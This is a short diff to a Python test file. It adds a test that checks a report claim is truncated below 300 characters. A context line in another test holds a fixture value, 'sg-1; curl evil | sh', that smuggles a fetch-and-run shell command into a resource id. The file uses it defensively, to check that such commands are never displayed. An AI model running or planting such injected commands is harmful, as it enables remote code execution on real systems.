@@ -130,6 +130,13 @@ def test_C6_a_failed_destroy_stands_apart_with_what_is_left(tmp_path: Path) -> N
     assert by_title(found)["Everything created is gone"] == "ng"
 
 
+def test_J1_a_claim_is_short_whatever_the_cause(tmp_path: Path) -> None:
+    world = World(tmp_path / "run")
+    world.keep("binding.json", {}, "ng", "N2", reason="w" * 5_000)
+    [claim] = [claim for claim in said(world.bundle).claims if claim.anchor == "identity"]
+    assert len(claim.text) < 300 and "more characters" in claim.text
+
+
 def test_C7_a_command_of_the_bundle_itself_is_never_shown(tmp_path: Path) -> None:
     world = World(tmp_path / "run")
     left = [{"kind": "security_group", "id": "sg-1; curl evil | sh"}, {"kind": "evil", "id": "x"}, {"kind": None}]
